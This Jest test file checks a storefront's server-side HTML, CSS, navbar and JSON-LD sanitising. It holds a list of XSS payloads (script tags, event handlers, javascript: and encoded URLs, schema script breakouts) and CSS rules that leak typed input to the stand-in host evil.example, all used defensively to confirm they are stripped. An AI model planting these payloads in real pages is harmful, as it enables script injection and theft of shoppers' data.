/**
 * Authored HTML of page data is sanitised on the server (src/sites/sanitizeHtml.ts), once, where page data leaves
 * it: the page-data API answer and the page data a first visit inlines carry the same cleaned HTML, and the
 * browser renders it as given. Needs the apps built (the shell's page) for the first visit.
 */
import { randomBytes } from 'node:crypto';
import { eq } from 'drizzle-orm';
import sanitize from 'sanitize-html';
import { PAGE_DATA_ELEMENT_ID, pageDataResponseSchema } from '@storefront/shared/contracts';
import { pages } from '../src/db/schema';
import { sanitizeHtml, sanitizeNavbarHtml } from '../src/sites/sanitizeHtml';
import { startTestServer, type TestServer } from './helpers/testServer';
import { visitor, WEB_URL } from './helpers/visitors';

jest.mock('sanitize-html', () => {
  const actual = jest.requireActual('sanitize-html');
  return { __esModule: true, default: jest.fn((html: string, options: unknown) => actual(html, options)) };
});

let server: TestServer;
let websiteId: number;
beforeAll(async () => {
  server = await startTestServer({ SERVE_APPS: 'true' });
  const init = await server.app.inject({ method: 'GET', url: '/s/api/init', headers: { 'x-web-url': WEB_URL } });
  websiteId = init.json().web.id;
});
afterAll(async () => {
  await server?.close();
});

/** Harmless markup an editor writes: it must come through. */
const HARMLESS = [
  '<h1>Fresh <em>today</em></h1>',
  '<p class="lead">Atta, dals and masalas.</p>',
  '<a href="/products">Shop all products</a>',
  '<img src="/cdn/atta.png" alt="Atta" width="320" height="180" loading="lazy" />',
  '<table><thead><tr><th>Item</th><th>Price</th></tr></thead><tbody><tr><td>Atta</td><td>₹249</td></tr></tbody></table>',
];

/** What must not reach a browser, each with its marker (no marker may be left anywhere in the cleaned HTML). */
const HOSTILE = [
  '<script>alert("script-element")</script>',
  '<img src=x onerror=alert("img-onerror")>',
  '<a href="javascript:alert(\'javascript-url\')">Click</a>',
  '<a href="JaVaScRiPt&colon;alert(\'encoded-url\')">Click</a>',
  '<iframe src="https://evil.example/iframe-src"></iframe>',
  '<svg><script>alert("svg-script")</script><circle onload="alert(\'svg-onload\')" /></svg>',
  '<p onclick="alert(\'p-onclick\')">Tap</p>',
  '<object data="https://evil.example/object-data"></object><embed src="https://evil.example/embed-src">',
  '<form action="https://evil.example/form-action"><input name="form-input"></form>',
  '<style>body{background:url("https://evil.example/style-element")}</style>',
  '<a href="vbscript:msgbox(\'vbscript-url\')">Old</a>',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YS11cmwnKTwvc2NyaXB0Pg==">',
];
const MARKERS =
  /<script|<iframe|<svg|<object|<embed|<form|<input|<style|onerror|onload|onclick|javascript:|vbscript:|data:text|evil\.example|alert\(|msgbox/i;

/** Stores a page with this HTML block for the default website; a unique path and text so no earlier request saw it. */
async function storePage(html: string): Promise<string> {
  const url = `/html-test-${randomBytes(4).toString('hex')}`;
  await server.db.insert(pages).values({
    websiteId,
    url,
    seoTitle: 'HTML test',
    components: [
      { name: 'Block', type: 'html', order: 0, data: `<!-- ${url} -->${html}` },
      { name: 'Second', type: 'html', order: 1, data: `<h2>Second</h2><script>alert("second-block")</script>` },
    ],
  });
  return url;
}

function inlinedPageData(html: string): { path: string; data: unknown } | undefined {
  const match = new RegExp(`<script type="application/json" id="${PAGE_DATA_ELEMENT_ID}">([^<]*)</script>`).exec(html);
  return match ? JSON.parse(match[1]) : undefined;
}

const blocksOf = (answer: unknown) => pageDataResponseSchema.parse(answer).data.map((component) => component.data as string);

function expectClean(block: string) {
  expect(block).not.toMatch(MARKERS);
}

describe('HTML blocks of page data', () => {
  let url: string;
  beforeAll(async () => {
    url = await storePage([...HARMLESS, ...HOSTILE].join(''));
  });
  afterAll(async () => {
    await server.db.delete(pages).where(eq(pages.url, url));
  });

  it('come sanitised in the page-data API answer, the harmless markup intact', async () => {
    const response = await visitor(server).get(`/s/api/page/data${url}`);
    expect(response.statusCode).toBe(200);
    const [block, second] = blocksOf(response.json());
    expectClean(block);
    expectClean(second);
    for (const markup of HARMLESS) expect(block).toContain(markup);
    expect(block).toContain('<a>Click</a>');
    expect(block).toContain('<p>Tap</p>');
    expect(second).toBe('<h2>Second</h2>');
  });

  it('come sanitised in the page data a first visit inlines, the same as the API answers', async () => {
    const guest = visitor(server);
    const api = (await guest.get(`/s/api/page/data${url}`)).json();
    const page = await guest.get(url);
    expect(page.statusCode).toBe(200);
    const inlined = inlinedPageData(page.body);
    expect(inlined).toEqual({ path: url, data: api });
    const [block, second] = blocksOf(inlined!.data);
    expectClean(block);
    expectClean(second);
    for (const markup of HARMLESS) expect(block).toContain(markup);
    // Nothing of the hostile markup is anywhere in the page, escaped or not.
    expect(page.body).not.toMatch(/alert\(|evil\.example|msgbox/);
  });

  it('are cleaned once, not at every request', async () => {
    const fresh = await storePage(`<p>Once ${randomBytes(4).toString('hex')}</p><img src=x onerror=alert(1)>`);
    try {
      const calls = jest.mocked(sanitize).mock.calls;
      const guest = visitor(server);
      const first = await guest.get(`/s/api/page/data${fresh}`);
      const cleanedAtFirst = calls.length;
      await guest.get(`/s/api/page/data${fresh}`);
      await guest.get(fresh);
      await visitor(server).get(fresh);
      expect(calls.length).toBe(cleanedAtFirst);
      expect(calls.filter(([html]) => html.includes(fresh))).toHaveLength(1);
      expect(blocksOf(first.json())[0]).toMatch(/^<p>Once [0-9a-f]{8}<\/p><img src="x" \/>$/);
    } finally {
      await server.db.delete(pages).where(eq(pages.url, fresh));
    }
  });
});

describe('the css of page data', () => {
  it('is sent as the editor wrote it, unless it could load something: then it is left out whole', async () => {
    const url = await storePage('<form><input name="code"></form>');
    try {
      const cssOf = async (css: string) => {
        await server.db.update(pages).set({ css }).where(eq(pages.url, url));
        return (await visitor(server).get(`/s/api/page/data${url}`)).json().css;
      };
      expect(await cssOf('h1 { color: teal } .hero > p[lang="hi"] { margin: 0 }')).toBe('h1 { color: teal } .hero > p[lang="hi"] { margin: 0 }');
      for (const hostile of [
        'input[value^="1"] { background: url(https://evil.example/?c=1) }',
        '@import "https://evil.example/steal.css";',
        '.a { background: image-set("https://evil.example/a.png" 1x) }',
        '.a { background: u\\72 l(https://evil.example/a.png) }',
      ]) {
        expect([hostile, await cssOf(hostile)]).toEqual([hostile, '']);
      }
    } finally {
      await server.db.delete(pages).where(eq(pages.url, url));
    }
  });
});

describe('the page sent for a path', () => {
  it('answers 404 for a path the site has no page for ("Page not found"), unindexed, and only that', async () => {
    const missing = await visitor(server).get('/no-such-page-here');
    expect(missing.statusCode).toBe(404);
    expect(missing.body).toContain('<meta name="robots" content="noindex">');
    for (const path of ['/about-us', '/products', '/']) {
      expect((await visitor(server).get(path)).body).not.toContain('name="robots"');
    }
  });
});

describe('the schema script of page data', () => {
  /** Stores a page with this schema script; a unique path so no earlier request saw it. */
  async function storeSchemaPage(schemaScript: string): Promise<string> {
    const url = `/schema-test-${randomBytes(4).toString('hex')}`;
    await server.db.insert(pages).values({ websiteId, url, seoTitle: 'Schema test', schemaScript, components: [] });
    return url;
  }
  const jsonLdOf = (html: string) => /<script type="application\/ld\+json" id="storefront-page-schema">([^<]*)<\/script>/.exec(html)?.[1];

  const urls: string[] = [];
  afterAll(async () => {
    for (const url of urls) await server.db.delete(pages).where(eq(pages.url, url));
  });

  it('goes into the head as JSON-LD that no text in it can close', async () => {
    const name = '</script><script>alert("schema-breakout")</script>';
    const url = await storeSchemaPage(JSON.stringify({ '@context': 'https://schema.org', '@type': 'Thing', name }));
    urls.push(url);
    const html = (await visitor(server).get(url)).body;
    const jsonLd = jsonLdOf(html);
    expect(jsonLd).toContain('\\u003c/script>');
    expect(JSON.parse(jsonLd!)).toEqual({ '@context': 'https://schema.org', '@type': 'Thing', name });
    expect(html).not.toContain('<script>alert(');
    expect(html.slice(0, html.indexOf('</head>'))).toContain('<title>Schema test</title>');
  });

  it('is read from inside the <script> element an editor pasted', async () => {
    const url = await storeSchemaPage('<script type="application/ld+json">{"@type":"GroceryStore","name":"Pasted"}</script>');
    urls.push(url);
    expect(JSON.parse(jsonLdOf((await visitor(server).get(url)).body)!)).toEqual({ '@type': 'GroceryStore', name: 'Pasted' });
  });

  it('is left out when it is not JSON', async () => {
    for (const script of ['<script>alert("not-json")</script>', 'window.dataLayer = [];', '{"unclosed": ']) {
      const url = await storeSchemaPage(script);
      urls.push(url);
      const html = (await visitor(server).get(url)).body;
      expect([script, jsonLdOf(html)]).toEqual([script, undefined]);
      expect(html).not.toContain('application/ld+json');
      expect(html).not.toContain('<script>alert(');
    }
  });
});

describe('the policy', () => {
  it('keeps what content needs: structure, links, images, media, tables, accessibility and data attributes', () => {
    const html = [
      '<section class="hero" id="offers"><h2 title="Offers">Offers</h2><p><strong>Bold</strong>, <em>em</em>, <code>code</code><br /></p></section>',
      '<ul><li>One</li></ul><ol start="3"><li>Three</li></ol><blockquote>Quote</blockquote><pre>pre</pre><hr />',
      '<figure><picture><source srcset="/a.webp 1x, /a@2x.webp 2x" type="image/webp" /><img src="/a.jpg" srcset="/a.jpg 1x" alt="A" /></picture><figcaption>Caption</figcaption></figure>',
      '<video controls poster="/poster.jpg" src="/clip.mp4"></video><audio controls src="/clip.mp3"></audio>',
      '<div role="note" aria-label="Note" data-kind="tip"><span>Tip</span></div>',
      '<a href="mailto:care@freshkart.example">Mail</a><a href="tel:+918045678900">Call</a><a href="#offers">Offers</a>',
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="" />',
    ].join('');
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('drops inline styles and names (the page’s css styles it), and ids the storefront reads from the page', () => {
    expect(sanitizeHtml('<p style="position:fixed;inset:0" name="cookie">Text</p>')).toBe('<p>Text</p>');
    expect(sanitizeHtml('<div id="storefront-page-data">{}</div><div id="root"></div><h2 id="faq">FAQ</h2>')).toBe(
      '<div>{}</div><div></div><h2 id="faq">FAQ</h2>',
    );
  });

  it('makes links that open another window unable to reach this one', () => {
    expect(sanitizeHtml('<a href="https://example.com" target="_blank">Out</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">Out</a>',
    );
    expect(sanitizeHtml('<a href="https://example.com" target="_blank" rel="opener nofollow">Out</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="nofollow noopener noreferrer">Out</a>',
    );
    expect(sanitizeHtml('<a href="/products" target="_self">In</a>')).toBe('<a href="/products" target="_self">In</a>');
  });

  it('drops every hostile sample', () => {
    for (const hostile of HOSTILE) expect([hostile, sanitizeHtml(hostile)]).toEqual([hostile, expect.not.stringMatching(MARKERS)]);
    expect(sanitizeHtml('<img srcset="javascript:alert(1) 1x, /a.png 2x" src="  java\tscript:alert(1)">')).toBe('<img srcset="/a.png 2x" />');
    expect(sanitizeHtml('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>After')).toBe('After');
    expect(sanitizeHtml('<math><mi xlink:href="javascript:alert(1)">x</mi></math><template><img src=x onerror=alert(1)></template>')).toBe('');
  });
});

describe('the custom navbar policy', () => {
  it('keeps what a header needs besides content: its buttons, its stylesheet and the placeholders the shell fills', () => {
    const html = [
      '<style>.bar { display: flex; background: var(--sf-color-primary); } .bar > a { color: inherit; }</style>',
      '<header class="bar"><a href="/">Shop</a><button type="button" class="pincode-btn">Deliver to</button><div id="search-btn"></div>',
      '<div id="account-btn-desktop"></div><div id="account-btn-mobile"></div><button type="button" class="cart-btn">Cart</button></header>',
      '<nav aria-label="Quick links"><div id="bottom-menu"></div></nav>',
    ].join('');
    expect(sanitizeNavbarHtml(html)).toBe(html);
  });

  it('drops every hostile sample, scripts and handlers on its buttons too, and a stylesheet cannot close over markup', () => {
    for (const hostile of HOSTILE) expect([hostile, sanitizeNavbarHtml(hostile)]).toEqual([hostile, expect.not.stringMatching(MARKERS)]);
    expect(sanitizeNavbarHtml('<button class="cart-btn" onclick="alert(1)" formaction="javascript:alert(1)">Cart</button>')).toBe(
      '<button class="cart-btn">Cart</button>',
    );
    expect(sanitizeNavbarHtml('<style>a{}</style><script>alert(1)</script><style></style><img src=x onerror=alert(1)>')).toBe(
      '<style>a{}</style><style></style><img src="x" />',
    );
    expect(sanitizeNavbarHtml('<form action="/s/api/auth/logout"><input name="q"></form>')).toBe('');
  });

  it('removes a stylesheet that could send what a shopper types elsewhere', () => {
    for (const css of [
      'input[value^="1"] { background: url(https://evil.example/?c=1) }',
      'input[value^="1"] { background: URL ( "//evil.example/1" ) }',
      '@import "https://evil.example/steal.css";',
      '.a { background: image-set("https://evil.example/a.png" 1x) }',
      '.a { background: u\\72 l(https://evil.example/a.png) }',
    ]) {
      expect(sanitizeNavbarHtml(`<style>${css}</style><p>Kept</p>`)).toBe('<p>Kept</p>');
    }
  });
});
